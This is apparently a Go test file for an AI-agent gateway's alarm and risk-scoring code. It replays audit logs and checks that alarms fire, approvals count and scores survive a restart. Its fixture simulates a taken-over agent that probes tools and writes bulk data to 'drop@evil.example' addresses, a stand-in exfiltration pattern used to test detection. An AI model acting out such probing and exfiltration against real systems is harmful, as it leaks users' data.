package rehearsal_test

import (
	"context"
	"encoding/json"
	"fmt"
	"iter"
	"strings"
	"testing"
	"time"

	"rutile/internal/access"
	"rutile/internal/audit"
	"rutile/internal/pdp"
	"rutile/internal/rehearsal"
	"rutile/internal/risk"
)

// alarms counts what a log comes to, its leaves moved in time by when.
func (r *rig) alarms(when func(m *audit.Moment) time.Time, change ...func(*rehearsal.Alarming)) rehearsal.Alarms {
	r.Helper()
	o := rehearsal.Alarming{State: r.State(), Held: noGrant}
	for _, f := range change {
		f(&o)
	}
	got, err := rehearsal.CountAlarms(r.Context(), moved(r.log.Moments(r.Context(), 0, r.log.Size()), when), o)
	if err != nil {
		r.Fatal(err)
	}
	return got
}

func moved(log iter.Seq2[audit.Moment, error], when func(m *audit.Moment) time.Time) iter.Seq2[audit.Moment, error] {
	return func(yield func(audit.Moment, error) bool) {
		for m, err := range log {
			if m.At = when(&m); m.Call != nil {
				m.Call.At = m.At
			}
			if !yield(m, err) {
				return
			}
		}
	}
}

// work records calls of four ordinary days, and on the fifth what one does who has been
// taken over; mark is the leaf the fifth day begins with.
func (r *rig) work(attack bool) (mark uint64) {
	r.Helper()
	call := func(tool, args string, denied bool) {
		q := r.request("bot", tool, args)
		d := access.Decision{ID: q.ID, Outcome: access.Permit, Set: "s", Tier: 2}
		if denied {
			d = access.Decision{ID: q.ID, Set: "s", Class: access.ClassPolicy, Forbids: []string{"no"}}
		}
		r.record(q, &d)
	}
	for i := range 260 {
		call("read", fmt.Sprintf(`{"path":"a%d"}`, i%7), false)
	}
	mark = r.log.Size()
	for i := range 24 {
		if !attack {
			call("read", `{"path":"a1"}`, false)
			continue
		}
		call(fmt.Sprint("probe", i), `{}`, true)
		call("write", fmt.Sprintf(`{"to":"drop%d@evil.example","n":%d,"text":"%s"}`, i, i, strings.Repeat("aB3xY9kQ2mZ7", 200)), false)
	}
	return mark
}

// days puts what is before mark on four days, ten seconds apart, and the rest on a fifth.
func days(mark uint64) func(m *audit.Moment) time.Time {
	monday := time.Date(2026, 11, 2, 9, 0, 0, 0, time.UTC)
	return func(m *audit.Moment) time.Time {
		if m.Index >= mark {
			return monday.AddDate(0, 0, 4).Add(time.Duration(m.Index-mark) * 2 * time.Second)
		}
		day := int(4 * m.Index / mark)
		return monday.AddDate(0, 0, day).Add(time.Duration(m.Index) * 5 * time.Second)
	}
}

// TestAlarmsOfRecordedCalls: recorded calls are scored anew as they were made. An honest
// day crosses nothing; one who was taken over crosses the rungs on one agent-day of five,
// each with its reasons and its decision, and what they sent is in none of it.
func TestAlarmsOfRecordedCalls(t *testing.T) {
	for _, attack := range []bool{false, true} {
		r := newRig(t)
		mark := r.work(attack)
		got := r.alarms(days(mark))
		if got.AgentDays != 5 || got.Agents != 1 || got.Known < 1 || got.Known > 2 || got.Erased != 0 || got.Partly != 0 {
			t.Errorf("attack %v: %+v", attack, got)
		}
		k := 0
		if attack {
			k = 1
		}
		for _, g := range got.Rungs[:2] {
			if g.Days.K != k || g.Days.N != 5 || attack != (g.Crossings > 0) || g.Days.Low < 0 || g.Days.High > 1 || g.Days.Low >= g.Days.High {
				t.Errorf("attack %v: %+v", attack, g)
			}
		}
		if attack != (len(got.Crossings) > 0) {
			t.Fatalf("attack %v: %d crossings", attack, len(got.Crossings))
		}
		if !attack {
			continue
		}
		first := got.Crossings[0]
		if first.Index < mark || len(first.Risk.Top) != 3 || first.Decision == "" || first.Rules[0] != "baseline.risk-step-up" || first.Risk.Session < 60 {
			t.Errorf("%+v", first)
		}
		if th := got.Thresholds; th[0].Score != 40 || th[0].Session.K != 1 || th[0].Session.N != 5 || th[len(th)-1].Person.K != 0 {
			t.Errorf("%+v", th)
		}
		text, err := json.Marshal(got)
		if err != nil || strings.Contains(string(text), "evil.example") || strings.Contains(string(text), "aB3xY9") {
			t.Errorf("what was sent is shown: %v", err)
		}
		if again := r.alarms(days(mark)); fmt.Sprint(again.Rungs, again.Thresholds) != fmt.Sprint(got.Rungs, got.Thresholds) {
			t.Error("the same log comes to something else")
		}
		if other := r.alarms(days(mark), func(o *rehearsal.Alarming) { o.Agent = "other" }); other.Calls != 0 || len(other.Crossings) != 0 {
			t.Errorf("of another agent: %+v", other)
		}
		// Statistics alone hold no newcomer: the same on one day comes to no rung.
		if one := r.alarms(func(m *audit.Moment) time.Time { return days(0)(m) }); len(one.Crossings) != 0 {
			t.Errorf("on its first day: %+v", one.Crossings[0])
		}
	}
}

// TestAlarmsSeeAnApproval: a call a person approved is no crossing of the rung that asks.
func TestAlarmsSeeAnApproval(t *testing.T) {
	r := newRig(t)
	mark := r.work(true)
	before := r.alarms(days(mark))
	q := r.request("bot", "write", `{"path":"b"}`)
	r.record(q, &access.Decision{ID: q.ID, Outcome: access.Permit, Set: "s", Tier: 2, Grant: "grt_1"})
	held := func(context.Context, string) (access.Held, bool, error) {
		return access.Held{Grant: "grt_1", Quorum: 1}, true, nil
	}
	with := r.alarms(days(mark), func(o *rehearsal.Alarming) { o.Held = held })
	without := r.alarms(days(mark))
	if with.Rungs[0].Calls != before.Rungs[0].Calls || without.Rungs[0].Calls != before.Rungs[0].Calls+1 {
		t.Errorf("%d calls were asked about before, %d with the approval, %d without", before.Rungs[0].Calls, with.Rungs[0].Calls, without.Rungs[0].Calls)
	}
}

// TestAlarmsLeaveOutWhatWasNotScored: what the gateway turned away before it decided, and
// lists, are no calls; who is erased is counted.
func TestAlarmsLeaveOutWhatWasNotScored(t *testing.T) {
	r := newRig(t)
	r.call("bot", "read", `{"path":"a"}`)
	q := r.request("bot", "read", `{}`)
	r.record(q, &access.Decision{ID: q.ID, Class: access.ClassAgent, Reason: "it is suspended"})
	list := r.request("bot", "", ``)
	list.Kind, list.Method = access.KindServer, "tools/list"
	d := pdp.Decide(r.State(), list)
	if err := r.log.Listed(t.Context(), audit.Intent{Request: list, Decision: &d}); err != nil {
		t.Fatal(err)
	}
	r.call("bot", "read", `{"path":"`+strings.Repeat("x", 9<<10)+`"}`)
	if err := r.log.Close(t.Context()); err != nil {
		t.Fatal(err)
	}
	r.open()
	got := r.alarms(func(m *audit.Moment) time.Time { return m.At })
	if got.Calls != 2 || got.Partly != 1 || got.AgentDays < 1 || got.AgentDays > 2 {
		t.Errorf("%+v", got)
	}
}

// recalled is a book that was told of nothing but what Recall tells it, as a gateway that
// starts right after the last leaf.
func (r *rig) recalled(book *risk.Book, clocks *recallClocks, when func(m *audit.Moment) time.Time, mark uint64) int {
	r.Helper()
	var clock rehearsal.Clock
	clocks.told = &clock
	from := mark - min(mark, rehearsal.Looked)
	n, err := rehearsal.Recall(r.Context(), moved(r.log.Moments(r.Context(), from, r.log.Size()), when), book, &clock, r.State(), mark, clocks.wall, clocks.steady)
	if err != nil {
		r.Fatal(err)
	}
	clocks.told = nil
	return n
}

// recallClocks are those of a gateway, or of what is told.
type recallClocks struct {
	wall   time.Time
	steady time.Duration
	told   *rehearsal.Clock
}

func (c *recallClocks) book(t *testing.T) *risk.Book {
	t.Helper()
	b, err := risk.New(risk.Config{Now: func() time.Time {
		if c.told != nil {
			return c.told.Wall()
		}
		return c.wall
	}, Steady: func() time.Duration {
		if c.told != nil {
			return c.told.Steady()
		}
		return c.steady
	}})
	if err != nil {
		t.Fatal(err)
	}
	return b
}

// TestRecallRebuildsWhatWasNotKept: a gateway that was killed has the scores again that
// the calls came to which it recorded and had not kept; what it had kept it counts no
// second time, and a pardon that is in the log holds.
func TestRecallRebuildsWhatWasNotKept(t *testing.T) {
	r := newRig(t)
	mark := r.work(true)
	end := r.log.Size()
	when := days(mark)
	clocks := &recallClocks{wall: when(&audit.Moment{Index: end}), steady: 48 * time.Hour}
	// All of it anew is what a gateway knew that was never stopped.
	whole := clocks.book(t)
	if n := r.recalled(whole, clocks, when, 0); n < 300 {
		t.Fatalf("%d calls were told of", n)
	}
	was := whole.Of("bot", "ses_1", "")
	if was.Session < 60 || was.Agent < 20 {
		t.Fatalf("%+v", was)
	}
	if err := whole.Save(t.Context(), r.db, "n1", risk.Mark{Log: "log", Size: end}); err != nil {
		t.Fatal(err)
	}
	again := clocks.book(t)
	if err := again.Load(t.Context(), r.db, "n1"); err != nil {
		t.Fatal(err)
	}
	if at, ok := again.Told("log"); !ok || at != end {
		t.Fatalf("told of %d of %d", at, end)
	}
	if n := r.recalled(again, clocks, when, end); n != 0 {
		t.Errorf("%d calls that are kept were told of again", n)
	}
	if is := again.Of("bot", "ses_1", ""); is.Session != was.Session || is.Agent != was.Agent || is.Learned != was.Learned {
		t.Errorf("what was kept and looked at again is %+v, was %+v", is, was)
	}
	// What was kept is of before the attack: the rest is read from the log.
	before := clocks.book(t)
	half := *clocks
	half.wall, half.steady = when(&audit.Moment{Index: mark - 1}), 24*time.Hour
	early := half.book(t)
	var clock rehearsal.Clock
	half.told = &clock
	if _, err := rehearsal.Recall(t.Context(), moved(r.log.Moments(t.Context(), 0, mark), when), early, &clock, r.State(), 0, half.wall, half.steady); err != nil {
		t.Fatal(err)
	}
	half.told = nil
	if err := early.Save(t.Context(), r.db, "n2", risk.Mark{Log: "log", Size: mark}); err != nil {
		t.Fatal(err)
	}
	if err := r.db.SaveRisks(t.Context(), "n1", nil, []risk.Key{{Kind: risk.KindAgent, ID: "bot"}, {Kind: risk.KindLog, ID: "log"}}); err != nil {
		t.Fatal(err)
	}
	if err := before.Load(t.Context(), r.db, "n2"); err != nil {
		t.Fatal(err)
	}
	if s := before.Of("bot", "ses_1", ""); s.Session >= 40 {
		t.Fatalf("before the attack it was %d", s.Session)
	}
	if n := r.recalled(before, clocks, when, mark); n != 48 {
		t.Errorf("%d calls were told of", n)
	}
	if is := before.Of("bot", "ses_1", ""); is.Session < was.Session-2 || is.Session > was.Session+2 || is.Agent < was.Agent-2 {
		t.Errorf("after a kill it is %+v, was %+v", is, was)
	}
	// Nothing washes it: not a clock set back, nor another start.
	clocks.wall = clocks.wall.Add(-48 * time.Hour)
	set := clocks.book(t)
	if err := set.Load(t.Context(), r.db, "n2"); err != nil {
		t.Fatal(err)
	}
	r.recalled(set, clocks, when, mark)
	if is := set.Of("bot", "ses_1", ""); is.Session < was.Session-2 {
		t.Errorf("with the clock set back it is %d, was %d", is.Session, was.Session)
	}
}
